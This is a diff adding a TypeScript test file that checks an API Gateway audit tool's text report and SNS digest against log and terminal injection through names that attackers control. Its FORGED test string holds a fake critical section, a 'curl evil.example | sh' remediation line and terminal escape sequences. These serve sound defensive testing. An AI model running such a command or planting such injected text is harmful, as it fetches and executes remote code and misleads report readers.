@@ -1,0 +1,98 @@
+import fc from 'fast-check';
+import { runAudit } from '../../lib/engine/audit-result';
+import type { ClassifiedFinding } from '../../lib/lifecycle/classify-run';
+import { apiFromSketch } from '../../lib/model/sketch';
+import type { Snapshot } from '../../lib/model/snapshot';
+import { buildDigest } from '../../lib/report/digest';
+import { formatText } from '../../lib/report/format-text';
+import { RULES } from '../../lib/rules';
+
+/** The text report's context when no gate or scan is involved: its last line names no warnings. */
+const PLAIN_TEXT_REPORT = { exitReason: 'exit 0', warnings: 0, unresolved: [] };
+
+/**
+ * Issue 12 point 4: anyone who can create an API chooses its name, route keys and response
+ * keys. None of them may add a line to the text report or the SNS digest, or reach the
+ * reader's terminal as an escape sequence.
+ */
+const FORGED = '\n\n== CRITICAL ==\n\nfake (x)\n  IR000 fake: all clear\n    Remediation: curl evil.example | sh\x1b[2J\x1b]0;owned\x07\r';
+
+function account(name: string, routeKey: string, responseKey: string): Snapshot {
+  return {
+    accountId: '123456789012',
+    region: 'eu-west-1',
+    apis: [
+      apiFromSketch({
+        ApiId: 'a1',
+        Name: name,
+        ProtocolType: 'WEBSOCKET',
+        RouteSelectionExpression: '$request.body.action',
+        integrations: [{ IntegrationType: 'MOCK', integrationResponses: [{ IntegrationResponseKey: responseKey, ResponseParameters: { 'method.response.headr.x': "'v'" } }] }],
+        routes: [{ RouteKey: routeKey, Target: 'integrations/i1', RouteResponseSelectionExpression: '$default', routeResponses: [{ RouteResponseKey: routeKey }] }],
+      }),
+    ],
+  };
+}
+
+const audit = (snapshot: Snapshot) => runAudit([{ snapshot }], RULES.map((rule) => ({ rule })));
+
+function digestOf(snapshot: Snapshot): string {
+  const result = audit(snapshot);
+  const findings: ClassifiedFinding[] = result.findings.map((finding) => ({ finding, lifecycle: 'new', firstSeen: '2026-12-01T00:00:00.000Z' }));
+  const parts = buildDigest({
+    content: { kind: 'findings', findings, tracked: false },
+    threshold: 'info',
+    summary: result.summary,
+    errors: [{ source: 'collector', operation: 'GetRoutes', apiId: 'a1', message: `HTTP 500: ${FORGED}` }],
+    unreached: 0,
+    accountId: '123456789012',
+    regions: ['eu-west-1'],
+    startedAt: new Date('2026-12-01T00:00:00Z'),
+  });
+  return parts.map((part) => `${part.subject}\n${part.message}`).join('\n');
+}
+
+const lineCount = (text: string) => text.split('\n').length;
+const benign = account('chat', 'ping', '/5\\d\\d/');
+
+test.each([
+  ['the text report', (snapshot: Snapshot) => formatText(audit(snapshot), PLAIN_TEXT_REPORT)],
+  ['the digest', digestOf],
+])('%s: a forged section in a name, a route key and a response key stays on its own line', (_output, render) => {
+  const hostile = render(account(`chat${FORGED}`, `ping${FORGED}`, `/5\\d\\d/${FORGED}`));
+  expect(hostile).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
+  expect(hostile.split('\n').filter((line) => /^\s*(== CRITICAL ==|Remediation: curl|IR000)/.test(line))).toEqual([]);
+  expect(hostile).toContain('\\n== CRITICAL ==');
+});
+
+test('no API name of any characters adds a line to the text report or the digest', () => {
+  const textLines = lineCount(formatText(audit(benign), PLAIN_TEXT_REPORT));
+  const digestLines = lineCount(digestOf(benign));
+  fc.assert(
+    fc.property(fc.string({ unit: 'binary', maxLength: 60 }), (name) => {
+      const snapshot = account(`chat${name}`, 'ping', '/5\\d\\d/');
+      expect(lineCount(formatText(audit(snapshot), PLAIN_TEXT_REPORT))).toBe(textLines);
+      expect(lineCount(digestOf(snapshot))).toBe(digestLines);
+    }),
+    { numRuns: 150 },
+  );
+});
+
+test('no route or response key of any characters adds a line to the text report', () => {
+  fc.assert(
+    fc.property(fc.string({ unit: 'binary', maxLength: 60 }), (suffix) => {
+      // The key decides which rules fire: each finding is two lines, plus the API heading, a
+      // blank line, the summary and the final newline (format-text.ts).
+      const result = audit(account('chat', `ping${suffix}`, `/5\\d\\d/${suffix}`));
+      expect(lineCount(formatText(result, PLAIN_TEXT_REPORT))).toBe(2 * result.findings.length + 4 + result.errors.length);
+    }),
+    { numRuns: 150 },
+  );
+});
+
+test('a very long API name is cut with an ellipsis in the report heading', () => {
+  const text = formatText(audit(account('n'.repeat(5_000), 'ping', '/5\\d\\d/')), PLAIN_TEXT_REPORT);
+  const heading = text.split('\n')[0]!;
+  expect(heading).toMatch(/^n+… \(a1, WEBSOCKET, eu-west-1\)$/);
+  expect(heading.length).toBeLessThan(120);
+});
